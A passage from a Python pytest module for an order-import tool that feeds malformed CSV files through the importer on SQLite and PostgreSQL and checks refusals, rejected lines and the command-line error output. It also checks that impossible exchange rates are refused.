            report = await import_file(database, ws, path, settings=WS, store=case.store)
        except ImportFileError as exc:
            return {"refused": str(exc), "unchanged": await checksum(database) == before}
        async with database.sessions() as s:
            orphans = (
                await s.execute(
                    select(func.count())
                    .select_from(Customer)
                    .where(
                        Customer.workspace_id == ws,
                        ~select(Order.id).where(Order.customer_id == Customer.id).exists(),
                    )
                )
            ).scalar_one()
            names = dict(
                (
                    await s.execute(
                        select(BuyerIdentity.buyer_key, BuyerIdentity.name).where(
                            BuyerIdentity.workspace_id == ws
                        )
                    )
                ).all()
            )
            products = dict(
                (await s.execute(select(Product.sku, Product.name).where(Product.workspace_id == ws))).all()
            )
        return {
            "kind": report.kind,
            "rows": report.rows,
            "orders": report.orders_new,
            "customers": report.customers_new,
            "rejected": [(r.line_no, r.order_ref, r.reason) for r in report.rejected],
            "customers without an order": orphans,
            "names": {k: names.get(k) for k in case.names},
            "products": {k: products.get(k) for k in case.products},
            "stored": await stored(database, ws),
        }
    finally:
        await database.dispose()  # its connections (bound to this test's loop); the engine stays


def check(case: Case, outcome: dict[str, Any]) -> None:
    if case.refused:
        message = outcome.get("refused")
        assert message is not None, f"not refused: {outcome}"
        assert case.refused in message and "\n" not in message, message
        assert message.startswith(case.file), message  # names the file
        assert outcome["unchanged"], "a refused file changed the database"
        return
    assert "refused" not in outcome, outcome.get("refused")
    rejected = {line: reason for line, _, reason in outcome["rejected"]}
    assert set(rejected) == set(case.rejected), outcome["rejected"]
    for line, needle in case.rejected.items():
        assert needle in rejected[line] and "\n" not in rejected[line], (line, rejected[line])
    if case.orders is not None:
        assert outcome["orders"] == case.orders, outcome
    if outcome["kind"] == "orders":  # rejected rows bring in nothing: every customer has an order
        assert outcome["customers without an order"] == 0
    assert outcome["names"] == case.names
    assert outcome["products"] == case.products


@pytest.fixture(scope="module")
def sqlite_url(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("battery") / "shop.db"
    shutil.copy(sqlite_template, path)
    return f"sqlite+aiosqlite:///{path}"


@pytest.fixture
def pg_url(request: pytest.FixtureRequest) -> str | None:
    """The session's PostgreSQL test database, or None when no server is reachable (the SQLite half still
    runs; the comparison is then skipped with the reason)."""
    try:
        return pg_url_for(request.getfixturevalue("pg_database"))
    except pytest.skip.Exception:
        return None


def test_the_battery_has_at_least_40_files() -> None:
    assert len(CASES) >= 40
    assert len({c.name for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
async def test_bad_file_on_sqlite_and_postgresql(
    case: Case, tmp_path: Path, sqlite_url: str, pg_url: str | None
) -> None:
    on_sqlite = await run_case(case, sqlite_url, tmp_path)
    check(case, on_sqlite)
    if pg_url is None:
        skip_without_postgres("PostgreSQL not reachable: only SQLite was checked")
    on_postgres = await run_case(case, pg_url, tmp_path)
    check(case, on_postgres)
    assert on_postgres == on_sqlite  # the same outcome and the same data stored


def test_the_command_line_reports_every_bad_file_in_one_line(tmp_path: Path, sqlite_template: Path) -> None:
    """The battery's files in one `sellermate import` (the same folder, one database): each refused file is one
    `error:` line naming it, each other file its summary and rejected lines; never a traceback. Every refused
    file, and every third of the others (the import itself is checked with each above; here the command's
    own lines are: one subprocess, a few seconds)."""
    files: dict[str, Case] = {}
    folder = tmp_path / "files"
    others = [c for c in CASES if not c.refused]
    chosen = [c for c in CASES if c.store is None and (c.refused or others.index(c) % 3 == 0)]
    for i, case in enumerate(chosen):
        name = f"{i:02d}-{case.file}"
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(case.data())
        files[name] = case
        if case.before:
            (folder / f"{i:02d}-before-{case.before[0]}").write_bytes(case.before[1])
    shutil.copy(sqlite_template, tmp_path / "shop.db")
    env = {k: v for k, v in os.environ.items() if not k.startswith("SELLERMATE_")}
    env.update(SELLERMATE_CONFIG=os.devnull, SELLERMATE_TIMEZONE="Asia/Singapore", PYTHONPATH=str(REPO))
    p = subprocess.run(
        [
            sys.executable,
            "-m",
            "bot.cli",
            "import",
            *sorted(str(f) for f in folder.iterdir()),
            "--db",
            f"sqlite+aiosqlite:///{tmp_path / 'shop.db'}",
            "-q",
        ],
        capture_output=True,
        text=True,
        env=env,
        cwd=REPO,
        timeout=300,
        check=False,
    )
    assert "Traceback" not in p.stdout + p.stderr, p.stderr[-3000:]
    assert p.returncode == 1
    errors = [line for line in p.stderr.splitlines() if line.startswith("error:")]
    out = p.stdout.splitlines()
    for name, case in files.items():
        mine = [e for e in errors if e.startswith(f"error: {name}:")]
        if case.refused:
            assert len(mine) == 1 and case.refused in mine[0], (name, mine)
            continue
        assert mine == [], mine
        start = next(i for i, line in enumerate(out) if line.startswith(f"{name}:"))
        block = []
        for line in out[start + 1 :]:
            if not line.startswith("  "):
                break
            block.append(line)
        for line_no in case.rejected:
            assert any(b.startswith(f"  line {line_no}") for b in block), (name, block)
    assert len(errors) == sum(1 for c in files.values() if c.refused)


@pytest.mark.parametrize("rate", ["nan", "inf", "1e300", "0", "-1", "1e-15"])
async def test_a_rates_file_with_an_impossible_rate_is_refused_on_both_databases(
    db: Database, workspace_id: int, tmp_path: Path, rate: str
) -> None:
    from crm.importing.service import import_rates
    from storage.models import FxRate

    path = tmp_path / "rates.csv"
    path.write_text(f"currency,rate\nUSD,1.34\nEUR,{rate}\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="line 3: expected a currency code and a positive rate"):
        await import_rates(db, workspace_id, path, base_currency="SGD")
    async with db.sessions() as s:
        assert (await s.execute(select(func.count()).select_from(FxRate))).scalar_one() == 0
